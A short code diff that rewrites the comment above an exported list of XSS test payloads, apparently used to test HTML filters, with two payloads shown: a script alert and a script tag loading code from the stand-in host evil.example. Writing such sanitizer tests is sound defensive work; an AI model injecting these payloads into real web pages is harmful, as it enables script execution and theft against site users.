@@ -1,6 +1,4 @@
-/**
- * Known evasions of HTML filters (OWASP, mutation XSS, known vulnerabilities); each would `alert` or call evil.example.
- */
+/** From OWASP, mutation XSS and known vulnerabilities; each would `alert` or call evil.example. */
 export const XSS_PAYLOADS = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
